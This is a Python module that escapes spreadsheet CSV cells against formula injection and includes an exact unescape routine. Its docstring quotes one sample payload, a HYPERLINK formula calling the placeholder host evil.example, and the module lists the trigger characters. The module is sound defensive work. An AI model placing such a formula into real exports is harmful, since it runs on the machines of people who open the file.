"""Spreadsheet-safe CSV cells: the escape every CSV we write applies, and its exact inverse.

A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (OWASP, "CSV Injection"): ``=HYPERLINK("http://evil.example/?x","click")``
in an export would run on the machine of whoever opens it. So, as OWASP recommends, such a text
cell is written with a single quote ``'`` in front, which spreadsheets show as text.

The rule, chosen so that an import undoes an export exactly:

- :func:`escape_cell`: a text cell that begins with a trigger character *or with a quote*
  gets one ``'`` prepended; every other cell is written as it is.
- :func:`unescape_cell`: a cell that begins with ``'`` followed by a trigger character or by
  another ``'`` loses that one ``'``; every other cell is read as it is.

So ``unescape_cell(escape_cell(s)) == s`` for every string, and no escaped cell begins with a
trigger character. Only text is escaped: numbers (``-3.5`` in a numeric column) stay numbers.
"""

from __future__ import annotations

import pandas as pd

#: What makes a spreadsheet evaluate a cell, when it is the cell's first character (OWASP).
FORMULA_TRIGGERS: frozenset[str] = frozenset({"=", "+", "-", "@", "\t", "\r"})
#: The escape: prepended to a cell that would be evaluated (or that begins with it already).
QUOTE = "'"
#: First characters that :func:`escape_cell` escapes.
ESCAPED_FIRST = sorted(FORMULA_TRIGGERS | {QUOTE})


def escape_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it as text: with a ``'`` in front when it begins with
    a formula trigger or with ``'`` itself; unchanged otherwise."""
    return QUOTE + value if value[:1] in ESCAPED_FIRST else value


def unescape_cell(value: str) -> str:
    """The value :func:`escape_cell` was given: one leading ``'`` removed when a trigger or
    another ``'`` follows it; unchanged otherwise."""
    return value[1:] if value[:1] == QUOTE and value[1:2] in ESCAPED_FIRST else value


def escape_text(values: pd.Series) -> pd.Series:
    """:func:`escape_cell` applied to a column of text (vectorised; missing values and the
    other non-text values of a mixed column stay as they are)."""
    needs = values.str[:1].isin(ESCAPED_FIRST)
    if not needs.any():
        return values
    escaped = values.copy()
    escaped[needs] = QUOTE + values[needs]
    return escaped


def unescape_text(values: pd.Series) -> pd.Series:
    """:func:`unescape_cell` applied to a column of text (vectorised; missing values stay)."""
    quoted = values.str.startswith(QUOTE)
    if not quoted.any():
        return values
    quoted &= values.str[1:2].isin(ESCAPED_FIRST)
    unescaped = values.copy()
    unescaped[quoted] = values[quoted].str[1:]
    return unescaped


def escape_text_columns(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text column escaped; numeric, boolean and time columns untouched."""
    text = [name for name in frame.columns if _holds_text(frame[name])]
    if not text:
        return frame
    return frame.assign(**{str(name): escape_text(frame[name]) for name in text})


def _holds_text(column: pd.Series) -> bool:
    """True for a column of strings (also a mixed ``object`` column with some strings)."""
    if isinstance(column.dtype, pd.StringDtype):
        return True
    return column.dtype == object and pd.api.types.infer_dtype(column, skipna=True) in (
        "string",
        "mixed",
        "mixed-integer",
        "mixed-integer-float",
    )
